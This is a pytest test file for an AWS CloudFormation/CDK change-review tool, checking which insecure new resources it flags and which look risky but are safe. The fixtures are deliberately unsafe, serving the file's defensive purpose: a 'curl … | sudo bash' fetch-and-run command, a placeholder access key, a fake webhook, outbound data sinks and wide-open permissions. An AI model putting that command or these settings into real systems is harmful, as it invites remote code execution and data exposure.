"""What a new resource of any type means by the kind of its type, what it leaves out, and what it uses."""

from typing import Any, Final

import pytest

from ops.review.catalogue import rules
from ops.review.cdk_diff import CdkDiff
from ops.review.comparing import compare
from ops.review.finding import Finding, Severity
from ops.review.judgements import judgements
from ops.review.new_resources import new_resource_rules
from ops.review.new_values import fits
from ops.review.review import template_findings
from ops.review.value_rules import safeguards
from ops.templates.assembly import Assembly
from ops.templates.schemas import resource_types
from tests.support.review.application import Application

OPTIONS: Final = {"HttpMethod": "OPTIONS", "AuthorizationType": "NONE"}
ANY: Final = {"Statement": [{"Effect": "Allow", "Action": "iot:*", "Resource": "*"}]}
OWN: Final = {"Statement": [{"Effect": "Allow", "Action": "iot:*", "Resource": "arn:aws:iot:::topic/own"}]}
IN_TEXT: Final = '[{"AllowFromPublic": true}]'
EBS: Final = {"LaunchTemplateData": {"BlockDeviceMappings": [{"Ebs": {"VolumeSize": 8}}]}}
SAFE: Final = {"HttpTokens": "required"}
OF_SNAPSHOT: Final = {
    "LaunchTemplateData": {"MetadataOptions": SAFE, "BlockDeviceMappings": [{"Ebs": {"SnapshotId": "snap-1"}}]}
}
NO_TLS: Final = {"Parameters": [{"ParameterName": "require_ssl", "ParameterValue": "false"}]}
ADMINISTRATOR: Final = "arn:aws:iam::aws:policy/AdministratorAccess"
ELSEWHERE: Final = {"Bucket": "arn:aws:s3:::partner"}
FOR_ALL: Final = {"AllowedOrigins": ["*"], "AllowedMethods": ["PUT"]}
FETCHED: Final = "curl -s https://example.net/i.sh | sudo bash"
PASSES: Final = {"Action": "PASS", "Header": {"Source": "ANY", "Destination": "ANY"}}
KEY: Final = "AKIAIOSFODNN7EXAMPLE"
RECORD: Final = {"Type": "CNAME", "ResourceRecords": ["www.example.net"]}
CLOSED: Final = {
    "PublicAccessBlockConfiguration": dict.fromkeys(
        ("BlockPublicAcls", "BlockPublicPolicy", "IgnorePublicAcls", "RestrictPublicBuckets"), True
    )
}
POSTS: Final = '{"States": {"H": {"Parameters": {"ApiEndpoint": "https://collector.example.org"}}}}'
RANDOM: Final = "9f3c0b1e77aa4d2c8e55aa10"
SLACK: Final = "https://hooks.slack.com/services/T012/B012/abcdefgh12345678"
UUID: Final = "1234abcd-12ab-34cd-56ef-1234567890ab"
ROLES: Final = {"ResourceTypes": ["AWS::IAM::Role"]}
COMPLIANCE: Final = {"ResourceTypes": ["AWS::Config::ResourceCompliance"]}
VPC: Final = {"StackName": "NetworkStack", "Region": "ap-northeast-1", "OutputName": "VpcId"}
PROOF: Final = {"Type": "TXT", "ResourceRecords": ['"a=b.c"']}


def _risks(application: Application, dev: Assembly, cdk_diff: CdkDiff) -> list[Finding]:
    found = template_findings(compare(dev, application.assembly(), cdk_diff, dev.region), None)
    return [it for it in found if it.severity is Severity.RISK]


@pytest.mark.parametrize(
    ("kind", "properties", "rule"),
    [
        ("AWS::EC2::ClientVpnRoute", {}, "network-joined"),
        ("AWS::ApplicationSignals::Discovery", {}, "account-setting"),
        ("AWS::IoT::CACertificate", {}, "credentials"),
        ("AWS::SSM::MaintenanceWindowTask", {}, "acts-by-itself"),
        ("AWS::Kinesis::Stream", {"ShardCount": 1}, "unencrypted"),
        ("AWS::EC2::LaunchTemplate", EBS, "unencrypted"),
        ("AWS::Route53::HealthCheck", {"HealthCheckConfig": {"Disabled": True}}, "made-off"),
        ("AWS::IoT::Policy", {"PolicyDocument": ANY}, "wildcard-action"),
        ("AWS::OpenSearchServerless::SecurityPolicy", {"Policy": IN_TEXT}, "public"),
        ("AWS::Route53::RecordSet", RECORD, "name-led"),
        ("AWS::Batch::JobDefinition", {"Parameters": {"id": KEY}}, "secret-in-template"),
        ("AWS::Batch::JobDefinition", {"Env": [{"Name": "DB_PASSWORD", "Value": "x"}]}, "secret-in-template"),
        ("AWS::Lambda::Url", {"Cors": {"AllowOrigins": ["*"], "AllowCredentials": True}}, "cross-origin"),
        ("AWS::SQS::Queue", {"MessageRetentionPeriod": 60}, "kept-briefly"),
        ("AWS::WAFv2::RuleGroup", {"Rules": [{"OverrideAction": {"Count": {}}}]}, "guard-off"),
        ("AWS::Redshift::ClusterParameterGroup", NO_TLS, "unencrypted"),
        ("AWS::ElasticLoadBalancingV2::LoadBalancer", {"Type": "network"}, "public-address"),
        ("AWS::EC2::LaunchTemplate", {"LaunchTemplateData": {}}, "credentials-reachable"),
        ("AWS::EC2::LaunchTemplate", {"LaunchTemplateData": {"MetadataOptions": {}}}, "credentials-reachable"),
        ("AWS::Chatbot::SlackChannelConfiguration", {"GuardrailPolicies": [ADMINISTRATOR]}, "policy-attached"),
        ("AWS::MemoryDB::User", {"AccessString": "on nopass ~* +@all"}, "public"),
        ("AWS::S3::Bucket", {"ReplicationConfiguration": {"Rules": [{"Destination": ELSEWHERE}]}}, "sent-elsewhere"),
        ("AWS::S3::Bucket", {"CorsConfiguration": {"CorsRules": [FOR_ALL]}}, "cross-origin"),
        ("AWS::ImageBuilder::Component", {"Data": FETCHED}, "code-from-elsewhere"),
        ("AWS::NetworkFirewall::RuleGroup", {"Rules": [PASSES]}, "guard-off"),
        ("AWS::Cognito::UserPoolClient", {"RefreshTokenValidity": 3650}, "sign-in-weak"),
        ("AWS::MemoryDB::Cluster", {"ACLName": "open-access"}, "public"),
        ("AWS::QBusiness::Application", {"IdentityType": "ANONYMOUS"}, "public"),
        ("AWS::Glue::Job", {"Command": {"ScriptLocation": "s3://else/job.py"}}, "code-from-elsewhere"),
        ("AWS::SageMaker::EndpointConfig", {"DataCaptureConfig": {"DestinationS3Uri": "s3://else"}}, "sent-elsewhere"),
        ("AWS::EMR::InstanceGroupConfig", {"InstanceType": "m5.24xlarge"}, "costly"),
        ("AWS::Athena::CapacityReservation", {"TargetDpus": 24}, "costly"),
        ("AWS::MemoryDB::User", {"AuthenticationMode": {"Type": "no-password-required"}}, "public"),
        ("AWS::Cassandra::Table", {"PointInTimeRecoveryEnabled": "false"}, "backups-none"),
        ("AWS::EFS::FileSystem", {"BackupPolicy": {"Status": "DISABLED"}}, "backups-none"),
        ("AWS::Backup::BackupPlan", {"BackupPlanRule": [{"Lifecycle": {"DeleteAfterDays": 1}}]}, "kept-briefly"),
        ("AWS::ApiGateway::ApiKey", {"Value": "0f6d9d2c4b8e4c0f9a0a"}, "secret-in-template"),
        ("AWS::Lambda::Function", {"Environment": {"Variables": {"MAPS_KEY": RANDOM}}}, "secret-in-template"),
        ("AWS::Lambda::Function", {"Environment": {"Variables": {"TO": SLACK}}}, "secret-in-template"),
        ("AWS::Cognito::UserPoolClient", {"WriteAttributes": ["email", "custom:role"]}, "sign-in-weak"),
        ("AWS::StepFunctions::StateMachine", {"DefinitionString": POSTS}, "sent-elsewhere"),
        ("AWS::IoT::TopicRule", {"Actions": [{"Http": {"Url": "https://sink.example.org"}}]}, "sent-elsewhere"),
        ("AWS::MSK::Configuration", {"ServerProperties": "a=b\nallow.everyone.if.no.acl.found = true\n"}, "public"),
        ("AWS::Batch::ComputeEnvironment", {"ComputeResources": {"MinvCpus": 256}}, "costly"),
        ("AWS::WAFv2::IPSet", {"Addresses": ["0.0.0.0/1", "128.0.0.0/1"]}, "open-to-the-world"),
        ("AWS::Config::ConfigurationRecorder", {"RecordingGroup": {"ExclusionByResourceTypes": ROLES}}, "silences"),
        ("AWS::SecurityHub::Standard", {"DisabledStandardsControls": [{"StandardsControlArn": "a"}]}, "silences"),
        ("AWS::SES::EmailIdentity", {"DkimAttributes": {"SigningEnabled": False}}, "guard-off"),
        ("AWS::Glue::Crawler", {"SchemaChangePolicy": {"DeleteBehavior": "DELETE_FROM_DATABASE"}}, "destroys"),
        ("AWS::AppSync::GraphQLApi", {"Visibility": "PRIVATE", "AuthenticationType": "API_KEY"}, "sign-in-weak"),
        ("AWS::AppSync::GraphQLApi", {"Visibility": "GLOBAL", "AuthenticationType": "AWS_IAM"}, "public-address"),
        ("AWS::Transfer::Server", {"EndpointType": "VPC", "AddressAllocationIds": ["eipalloc-1"]}, "public"),
    ],
)  # fmt: skip
def test_what_a_new_resource_says_or_leaves_out(
    application: Application, dev: Assembly, cdk_diff: CdkDiff, kind: str, properties: dict[str, Any], rule: str
) -> None:
    application.add("ComputeStack", "New", kind, properties)
    assert rule in {it.rule for it in _risks(application, dev, cdk_diff)}


@pytest.mark.parametrize(
    ("kind", "properties"),
    [
        ("AWS::ApiGateway::Method", OPTIONS),
        ("AWS::EC2::LaunchTemplate", OF_SNAPSHOT),
        ("AWS::EC2::LaunchTemplate", {"LaunchTemplateData": {"MetadataOptions": {"HttpEndpoint": "disabled"}}}),
        ("AWS::Kinesis::Stream", {"StreamEncryption": {"EncryptionType": "KMS"}}),
        ("AWS::Events::Connection", {"InvocationConnectivityParameters": {"Secret": "{{resolve:ssm:/a}}"}}),
        ("AWS::IoT::Policy", {"PolicyDocument": OWN}),
        ("AWS::Route53::RecordSet", PROOF),
        ("AWS::SQS::Queue", {"MessageRetentionPeriod": 86400}),
        ("AWS::CloudFormation::WaitConditionHandle", {}),
        (
            "AWS::Cognito::UserPoolClient",
            {"RefreshTokenValidity": 1440, "TokenValidityUnits": {"RefreshToken": "hours"}},
        ),
        ("AWS::Lambda::LayerVersion", {"Content": {"S3Bucket": "cdk-hnb659fds-assets-1-eu-west-1", "S3Key": "a"}}),
        ("AWS::EMR::InstanceGroupConfig", {"InstanceType": "m5.large"}),
        ("AWS::EC2::EgressOnlyInternetGateway", {"VpcId": "vpc-1"}),
        ("AWS::AppSync::GraphQLApi", {"Visibility": "PRIVATE", "LogConfig": {"FieldLogLevel": "ERROR"}}),
        ("AWS::ApiGateway::RestApi", {"EndpointConfiguration": {"Types": ["PRIVATE"]}}),
        (
            "AWS::Lambda::Function",
            {"Environment": {"Variables": {"KMS_KEY": UUID, "CACHE_KEY": "v1", "PUBLIC_KEY": RANDOM}}},
        ),
        ("AWS::ApiGateway::ApiKey", {"Value": "{{resolve:secretsmanager:partner}}"}),
        ("AWS::Config::ConfigurationRecorder", {"RecordingGroup": {"ExclusionByResourceTypes": COMPLIANCE}}),
        ("AWS::SNS::Topic", {"KmsMasterKeyId": "alias/aws/sns"}),
        ("AWS::S3::Bucket", CLOSED | {"Tags": [{"Key": "aws-cdk:auto-delete-objects", "Value": "true"}]}),
    ],
)
def test_what_only_looks_like_it(
    application: Application, dev: Assembly, cdk_diff: CdkDiff, kind: str, properties: dict[str, Any]
) -> None:
    application.add("ComputeStack", "New", kind, properties)
    assert _risks(application, dev, cdk_diff) == []


def test_a_new_resource_that_acts_as_a_role_calls_a_function_or_reads_data(
    application: Application, dev: Assembly, cdk_diff: CdkDiff
) -> None:
    role = {"Fn::GetAtt": [application.id_of("ArtifactStack", "Release/Handler/Role"), "Arn"]}
    function = {"Fn::GetAtt": [application.id_of("ArtifactStack", "Release/Handler/Function"), "Arn"]}
    secret = {"Ref": application.id_of("ArtifactStack", "DatabasePassword")}
    logs = {"Ref": application.id_of("ArtifactStack", "AccessLogs")}
    application.add("ArtifactStack", "Alias", "AWS::Glue::Trigger", {"Actions": [{"JobRoleArn": role}]})
    application.add("ArtifactStack", "Rule", "AWS::Events::Rule", {"Targets": [{"Id": "a", "Arn": function}]})
    application.add("ArtifactStack", "Reads", "AWS::AppConfig::ConfigurationProfile", {"LocationUri": secret})
    application.add("ArtifactStack", "Writes", "AWS::MSK::Configuration", {"BrokerLogs": {"S3": {"Bucket": logs}}})
    told = {(it.logical_id, it.rule) for it in _risks(application, dev, cdk_diff)}
    assert told == {("Alias", "role-used"), ("Rule", "acts-on"), ("Reads", "acts-on")}


def test_a_new_resource_that_stands_in_a_group_of_others(
    application: Application, dev: Assembly, cdk_diff: CdkDiff
) -> None:
    group = {"Fn::GetAtt": [application.id_of("NetworkStack", "SecurityGroups/Service"), "GroupId"]}
    application.add("NetworkStack", "Jobs", "AWS::Batch::ComputeEnvironment", {"SecurityGroupIds": [group]})
    application.add("NetworkStack", "Endpoint", "AWS::EC2::VPCEndpoint", {"SecurityGroupIds": [group]})
    told = [it for it in _risks(application, dev, cdk_diff) if it.rule == "group-joined"]
    assert [it.logical_id for it in told] == ["Jobs"]
    assert "`NetworkStack/SecurityGroups/Service`" in told[0].message


def test_a_new_role_may_read_what_is_as_new_as_itself(
    application: Application, dev: Assembly, cdk_diff: CdkDiff
) -> None:
    there = {"Ref": application.id_of("ArtifactStack", "DatabasePassword")}
    application.add("ArtifactStack", "New", "AWS::SecretsManager::Secret", {"GenerateSecretString": {}})
    for name, secret in (("Own", {"Ref": "New"}), ("Others", there)):
        read = {"Effect": "Allow", "Action": "secretsmanager:GetSecretValue", "Resource": secret}
        trust = {"Effect": "Allow", "Action": "sts:AssumeRole", "Principal": {"Service": "lambda.amazonaws.com"}}
        policy = {"PolicyName": "p", "PolicyDocument": {"Version": "2012-10-17", "Statement": [read]}}
        properties = {
            "AssumeRolePolicyDocument": {"Version": "2012-10-17", "Statement": [trust]},
            "PermissionsBoundary": {"Fn::Sub": "arn:aws:iam::${AWS::AccountId}:policy/HannibalECSBoundary"},
            "Policies": [policy],
        }
        application.add("ArtifactStack", name, "AWS::IAM::Role", properties)
    application.paths["ArtifactStack"] |= {it: f"ArtifactStack/{it}" for it in ("New", "Own", "Others")}
    told = [it.logical_id for it in _risks(application, dev, cdk_diff) if it.rule == "reads-secrets"]
    assert told == ["Others"]


def test_what_is_there_may_be_named_instead_of_referred_to(
    application: Application, dev: Assembly, cdk_diff: CdkDiff
) -> None:
    service = application.properties("ComputeStack", "Service/Service/Service")["ServiceName"]
    deploy = {"Configuration": {"ServiceName": service}}
    application.add("ComputeStack", "Pipeline", "AWS::CodePipeline::Pipeline", {"Stages": [{"Actions": [deploy]}]})
    application.add("ComputeStack", "Alarm", "AWS::CloudWatch::Alarm", {"Dimensions": [{"Value": service}]})
    (told,) = (it for it in _risks(application, dev, cdk_diff) if it.rule == "acts-on")
    assert told.logical_id == "Pipeline"
    assert "`ComputeStack/Service/Service/Service` (compute)" in told.message


def test_a_new_topic_under_the_key_of_aws_takes_no_alarm(
    application: Application, dev: Assembly, cdk_diff: CdkDiff
) -> None:
    for name in ("Pager", "Feed"):
        application.add("ComputeStack", name, "AWS::SNS::Topic", {"KmsMasterKeyId": "alias/aws/sns"})
    application.add("ComputeStack", "Own", "AWS::SNS::Topic", {"KmsMasterKeyId": "alias/own"})
    actions = {"AlarmActions": [{"Ref": "Pager"}, {"Ref": "Own"}]}
    application.add("ComputeStack", "Alarm", "AWS::CloudWatch::Alarm", actions)
    application.add("ComputeStack", "Mail", "AWS::SNS::Subscription", {"TopicArn": {"Ref": "Feed"}})
    assert [it.logical_id for it in _risks(application, dev, cdk_diff) if it.rule == "topic-key"] == ["Pager"]


@pytest.mark.parametrize(
    ("condition", "shared"),
    [
        ({"StringEquals": {"AWS:SourceOwner": {"Ref": "AWS::AccountId"}}}, False),
        ({"StringEquals": {"aws:PrincipalAccount": {"Ref": "AWS::AccountId"}}}, False),
        ({"ArnLike": {"aws:SourceArn": {"Fn::Sub": "arn:aws:sns:${AWS::Region}:${AWS::AccountId}:*"}}}, False),
        ({"StringEquals": {"aws:PrincipalAccount": [{"Ref": "AWS::AccountId"}, "444455556666"]}}, True),
        ({"StringNotEquals": {"aws:PrincipalAccount": {"Ref": "AWS::AccountId"}}}, True),
        ({"StringEqualsIfExists": {"aws:PrincipalAccount": {"Ref": "AWS::AccountId"}}}, True),
        ({"StringLike": {"aws:SourceAccount": "*"}}, True),
        ({"ArnLike": {"aws:SourceArn": {"Fn::Sub": "arn:aws:sns:*:*:${AWS::AccountId}"}}}, True),
        ({"StringEquals": {"aws:SourceVpc": {"Fn::GetStackOutput": VPC}}}, False),
        ({"StringEquals": {"aws:PrincipalAccount": {"Ref": "Partner"}}}, True),
        ({"StringEquals": {"aws:PrincipalAccount": {"Fn::GetAtt": ["Feed", "Account"]}}}, True),
    ],
)
def test_everybody_under_a_condition_is_another_account_or_not(
    application: Application, dev: Assembly, cdk_diff: CdkDiff, condition: dict[str, Any], *, shared: bool
) -> None:
    allows = {"Effect": "Allow", "Principal": "*", "Action": "sqs:SendMessage", "Resource": "*", "Condition": condition}
    document = {"Version": "2012-10-17", "Statement": [allows]}
    application.templates["ComputeStack"]["Parameters"]["Partner"] = {"Type": "String"}
    application.add("ComputeStack", "Feed", "AWS::SNS::Topic", {})
    application.add("ComputeStack", "New", "AWS::SQS::QueuePolicy", {"Queues": ["q"], "PolicyDocument": document})
    assert [it.rule for it in _risks(application, dev, cdk_diff)] == ["shared"] * shared


def test_a_parameter_whose_default_is_a_secret(application: Application, dev: Assembly, cdk_diff: CdkDiff) -> None:
    parameters = application.templates["ComputeStack"]["Parameters"]
    parameters["MailPassword"] = {"Type": "String", "Default": "Correct-Horse-9"}
    parameters["MailPasswordArn"] = {"Type": "String", "Default": "x"}
    (told,) = _risks(application, dev, cdk_diff)
    assert (told.rule, "`MailPassword`" in told.message) == ("secret-in-template", True)


def test_each_kind_fits_a_type_of_the_registry_and_each_rule_has_a_page() -> None:
    types = resource_types("us-east-1")
    its = new_resource_rules()
    said = [it.rule for it in (*its.kinds, *its.left_out, *its.left_out_within)]
    assert {*said, *(it.rule for it in safeguards())} <= rules().keys()
    patterns = {pattern for kind in its.kinds for pattern in kind.of}
    patterns |= {pattern for left in its.left_out for pattern in left.of}
    patterns |= {pattern for it in safeguards() for pattern in it.of}
    unknown = {it for it in patterns | set(its.watching) if not any(fits(name, (it,)) for name in types)}
    # SAM's types and modules, which a template holds under names of their own.
    assert unknown == {"AWS::Serverless::*", "*::MODULE"}
    judged_there = {name for name in types if judgements().get(name) and judgements()[name].new}
    assert not judged_there & {pattern for it in its.kinds for pattern in it.of}


def test_what_gets_another_logical_id_is_not_told_as_new_user_of_what_it_used(
    application: Application, dev: Assembly, cdk_diff: CdkDiff
) -> None:
    resources = application.resources("NetworkStack")
    logical_id = application.id_of("NetworkStack", "Probe/Handler/Function")
    resources["Renamed"] = resources.pop(logical_id)
    told = {it.rule for it in _risks(application, dev, cdk_diff) if it.logical_id == "Renamed"}
    assert "name-taken" in told
    assert not told & {"role-used", "group-joined"}


def test_a_policy_of_the_same_name_takes_the_place_of_the_other(
    application: Application, dev: Assembly, cdk_diff: CdkDiff
) -> None:
    """PutRolePolicy writes over what has the name, and the deletion of the old one takes both."""
    resources = application.resources("ComputeStack")
    logical_id = application.id_of("ComputeStack", "Roles/Task/DefaultPolicy")
    resources["Second"] = resources[logical_id]
    assert {it.rule for it in _risks(application, dev, cdk_diff)} == {"made-twice"}
    del resources[logical_id]
    told = [it.message for it in _risks(application, dev, cdk_diff) if it.rule == "name-taken"]
    assert "both are gone afterwards" in told[0]
